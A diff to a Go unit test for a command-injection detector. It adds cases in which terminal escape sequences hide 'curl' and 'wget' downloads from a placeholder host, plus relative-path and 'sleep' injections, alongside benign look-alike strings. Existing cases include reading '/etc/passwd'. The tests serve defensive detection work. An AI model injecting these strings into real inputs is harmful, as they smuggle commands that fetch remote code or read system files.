@@ -18,6 +18,11 @@ func TestCMDEXE(t *testing.T) {
 		{"pipe bare between pipes", "a.html|id|", true},
 		{"and and with flag", "foo && ls -la /", true},
 		{"newline path", "x\ncat /etc/passwd", true},
+		{"cursor up hides command", "\necho ok\nexit\n\x1b[2Acurl http://a.example/x.sh", true},
+		{"erase line hides command", "x\n\x1b[1Kwget http://a.example/s", true},
+		{"relative usr bin after pipe", "|usr/bin/id", true},
+		{"relative usr sbin after semicolon", "x;usr/sbin/ifconfig", true},
+		{"sleep before literal newline", "1 \\nsleep 5\\n", true},
 		{"text newline", `\n/usr/bin/id\n`, true},
 		{"text newline bare", `a;id\n`, true},
 		{"backtick", "name=`id`", true},
@@ -96,6 +101,11 @@ func TestCMDEXE(t *testing.T) {
 
 		// benign
 		{"prose semicolon", "I like cats; dogs are fine too", false},
+		{"colour codes in a log", "\x1b[31mERROR\x1b[0m disk full\nretry later", false},
+		{"cursor escape in terminal output", "progress 10%\x1b[2K\rprogress 20%", false},
+		{"usr path prose", "see usr/bin/README for details", false},
+		{"pipe list ending in id", "name|id", false},
+		{"sleep with unit", "sleep 5\\nminutes", false},
 		{"cat food", "cat food; dog food", false},
 		{"tom and jerry", "Tom & Jerry", false},
 		{"price", "red;$5 each", false},
